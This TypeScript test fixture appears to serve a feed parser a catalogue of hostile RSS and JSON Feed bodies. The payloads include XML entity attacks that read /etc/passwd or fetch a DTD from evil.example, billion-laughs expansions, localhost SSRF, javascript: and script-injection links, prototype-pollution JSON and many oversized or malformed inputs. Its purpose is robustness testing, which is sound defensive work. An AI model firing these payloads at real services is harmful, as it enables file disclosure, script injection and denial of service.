import type { ServedAnswer } from '../../helpers/feedServer.ts';
import type { Behaviours } from './onTheWire.ts';

const xml = (body: string | Uint8Array): ServedAnswer => ({
  headers: { 'content-type': 'application/rss+xml; charset=utf-8' },
  body,
});
const json = (body: string): ServedAnswer => ({
  headers: { 'content-type': 'application/feed+json' },
  body,
});

const open = '<rss version="2.0"><channel><title>T</title>';
const close = '</channel></rss>';
const feed = (items: string): ServedAnswer => xml(`${open}${items}${close}`);
const item = (inside: string, guid = 'g'): string => `<item><guid>${guid}</guid>${inside}</item>`;
const say = (text: string): ServedAnswer => feed(item(`<description>${text}</description>`));
const titled = (title: string): ServedAnswer => feed(item(`<title>${title}</title>`));
const doctype = (declared: string, used: string): ServedAnswer =>
  xml(`<!DOCTYPE rss [${declared}]>${open}${item(`<title>${used}</title>`)}${close}`);
const repeat = (count: number, make: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => make(index)).join('');

const entities: Behaviours = {
  'laughs a billion times': doctype(
    repeat(9, (level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`),
    '&l9;',
  ),
  'repeats one long entity': doctype(`<!ENTITY a "${'a'.repeat(100_000)}">`, '&a;'.repeat(5_000)),
  'names an entity by itself': doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'),
  'wants the passwords': doctype('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'),
  'wants a page of this machine': doctype('<!ENTITY a SYSTEM "http://127.0.0.1/">', '&a;'),
  'wants parameters from elsewhere': doctype('<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;', 'x'),
  'wants a DTD from elsewhere': xml(`<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">${open}${close}`),
  'includes a file': feed(
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
  ),
  'declares 100,000 entities': doctype('<!ENTITY a "b">'.repeat(100_000), '&a;'),
  'numbers a character beyond all': titled('&#99999999999999999999;&#x110000;&#0;&#xD800;'),
};

const shapes: Behaviours = {
  'nests 100,000 deep': feed(`${'<b>'.repeat(100_000)}${'</b>'.repeat(100_000)}`),
  'nests a million deep and never closes': feed('<b>'.repeat(1_000_000)),
  'nests 100,000 quotes': say(`<![CDATA[${'<blockquote>'.repeat(100_000)}]]>`),
  'closes what was never open': feed('</item>'.repeat(200_000)),
  'opens 500,000 tags that never end': say(`<![CDATA[${'<p'.repeat(500_000)}]]>`),
  'opens 80,000 escaped tags that never end': say('&lt;p'.repeat(80_000)),
  'has 200,000 attributes': feed(`<item ${repeat(200_000, (index) => `a${index}="b" `)}/>`),
  'has an attribute of 5 MB': feed(`<item a="${'b'.repeat(5_000_000)}"/>`),
  'has 300,000 entries': feed(repeat(300_000, () => '<item/>')),
  'has 20,000 entries with one guid': feed(repeat(20_000, () => item('<title>t</title>'))),
  'has 20,000 entries without a guid': feed(
    repeat(20_000, (index) => `<item><title>${index}</title></item>`),
  ),
  'has a comment that never ends': feed('<!--'.repeat(250_000)),
  'has CDATA that never ends': feed(`<item><title><![CDATA[${'a'.repeat(1_000_000)}`),
  'has 200,000 pieces of CDATA': titled('<![CDATA[a]]>'.repeat(200_000)),
  'has 200,000 instructions': xml('<?xml version="1.0"?>'.repeat(200_000)),
  'has 5 MB of white space': xml(`${' \n'.repeat(2_500_000)}${open}${close}`),
  'has a million ampersands': say('&'.repeat(1_000_000)),
  'has a million escaped ampersands': say('&amp;'.repeat(1_000_000)),
  'declares 100,000 namespaces': feed(
    `<item ${repeat(100_000, (index) => `xmlns:n${index}="urn:${index}" `)}/>`,
  ),
  'is cut off in its middle': xml(`${open}${item('<title>whole</title>')}<item><title>ha`),
  'calls its tags __proto__': feed(
    '<__proto__>a</__proto__><constructor>b</constructor><item><__proto__/></item>',
  ),
  'has ten roots': xml(`${open}${close}`.repeat(10)),
  'has a root of its own': xml('<everything><item/></everything>'),
};

const values: Behaviours = {
  'has a title of 5 MB': titled('a'.repeat(5_000_000)),
  'has a guid of 1 MB': feed(item('', 'g'.repeat(1_000_000))),
  'has an address of 1 MB': feed(item(`<link>http://a.example/${'a'.repeat(1_000_000)}</link>`)),
  'links to scripts': feed(
    item('<link>javascript:alert(1)</link><description>&lt;a href="jAvAsCript:x">x</description>'),
  ),
  'links to files and data': feed(
    item('<link>file:///etc/passwd</link>') + item('<link>data:text/html,x</link>', 'h'),
  ),
  'links to what is no address': feed(item('<link>http://[bad</link>') + item('<link>::::</link>', 'h')),
  'speaks from right to left': titled('\u202eevil\u202c \u2066a\u2069'),
  'hides words in nothing': say(`b${'\u200b'.repeat(100_000)}lue`),
  'stacks accents': titled(`a${'\u0301'.repeat(200_000)}`),
  'says 10,000 pictures': titled('👩‍👩‍👧‍👦'.repeat(10_000)),
  'has zeros and controls': titled('a\0b\u0001\u0008\u001b[31m\ufffe'),
  'has halves of characters': say('&#xD83D; \ud83d'),
  'comes from the year 275761': feed(item('<pubDate>Sat, 13 Sep 275761 00:00:00 GMT</pubDate>')),
  'comes from before Christ': feed(item('<pubDate>-000001-01-01T00:00:00Z</pubDate>')),
  'comes from the 99th of May': feed(item('<pubDate>99 May 2026 99:99:99 +9999</pubDate>')),
  'has a date of 1 MB': feed(item(`<pubDate>${'1 '.repeat(500_000)}</pubDate>`)),
  'asks to be left alone for ever': feed(`<ttl>${'9'.repeat(400)}</ttl>`),
  'skips all hours': feed(`<skipHours>${repeat(24, (hour) => `<hour>${hour}</hour>`)}</skipHours>`),
  'has a script in every field': feed(
    item('<title><![CDATA[<script>x</script>]]></title><author>&lt;img src=x onerror=x></author>'),
  ),
  'has frames and forms': say(
    '<![CDATA[<iframe src="x"></iframe><form action="x"><object data="x"></object>]]>',
  ),
  'has pictures that act': say('<![CDATA[<svg onload="x"><animate href="javascript:x"/></svg>]]>'),
  'has a base elsewhere': feed(`<item xml:base="http://127.0.0.1/"><link>/private</link></item>`),
};

const bytes: Behaviours = {
  'says nothing': xml(''),
  'says one byte': xml('<'),
  'is a picture': xml(Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')),
  'is a PDF': xml('%PDF-1.7\n%âãÏÓ\n1 0 obj<</Type/Catalog>>endobj'),
  'is a program': xml(Buffer.from('7f454c46020101000000000000000000', 'hex')),
  'is zeros': xml(Buffer.alloc(1_000_000)),
  'is UTF-7': xml(`<?xml version="1.0" encoding="utf-7"?>${open}+ADw-script+AD4-${close}`),
  'is UTF-16 without a mark': xml(Buffer.from(`${open}${close}`, 'utf16le')),
  'is UTF-32': xml(Buffer.from([...`${open}${close}`].flatMap((char) => [char.charCodeAt(0), 0, 0, 0]))),
  'is broken UTF-8': xml(Buffer.from([0x3c, 0x72, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x3e])),
  'has a charset of 10 kB': {
    headers: { 'content-type': `text/xml; charset=${'x'.repeat(10_000)}` },
    body: open,
  },
  'has a charset called constructor': {
    headers: { 'content-type': 'text/xml; charset=constructor' },
    body: open,
  },
  'is a page': { headers: { 'content-type': 'text/html' }, body: '<!doctype html><title>Hello</title>' },
  'is a page nested 300,000 deep': xml(`<html>${'<div>'.repeat(300_000)}`),
  'is the page of a café’s Wi-Fi': xml(
    '<html><meta http-equiv=refresh content="0;url=http://127.0.0.1/"></html>',
  ),
};

const jsonBodies: Behaviours = {
  'is JSON that is no feed': json('{"version":"1.0"}'),
  'is a JSON list': json('[1,2,3]'),
  'is JSON null': json('null'),
  'is half a JSON feed': json('{"version":"https://jsonfeed.org/version/1.1","title":"T","items":[{"id":"1"'),
  'is JSON nested 500,000 deep': json(`{"items":${'['.repeat(500_000)}${']'.repeat(500_000)}}`),
  'is JSON with wrong types': json(
    '{"version":1.1,"title":{},"items":[null,1,"a",[],{"id":{},"title":[],"url":1,"date_published":{},"authors":"a"}]}',
  ),
  'is JSON without items': json('{"version":"https://jsonfeed.org/version/1.1","items":{}}'),
  'is JSON that wants to be a prototype': json(
    '{"version":"https://jsonfeed.org/version/1.1","__proto__":{"polluted":1},"items":[{"id":"1","constructor":{"prototype":{"polluted":1}}}]}',
  ),
  'is JSON with 300,000 items': json(
    `{"version":"https://jsonfeed.org/version/1.1","items":[${Array(300_000).fill('{}').join()}]}`,
  ),
  'is JSON with a string of 9 MB': json(
    `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","content_text":"${'a'.repeat(9_000_000)}"}]}`,
  ),
  'is JSON with halves of characters': json(
    '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"\\ud83d\\u0000","content_text":"\\udc00"}]}',
  ),
  'is JSON with HTML that never ends': json(
    `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","content_html":"${'<p'.repeat(500_000)}"}]}`,
  ),
  'is JSON with a number beyond all': json(
    `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":${'9'.repeat(400)}}]}`,
  ),
};

export const bodyBehaviours: Behaviours = { ...entities, ...shapes, ...values, ...bytes, ...jsonBodies };
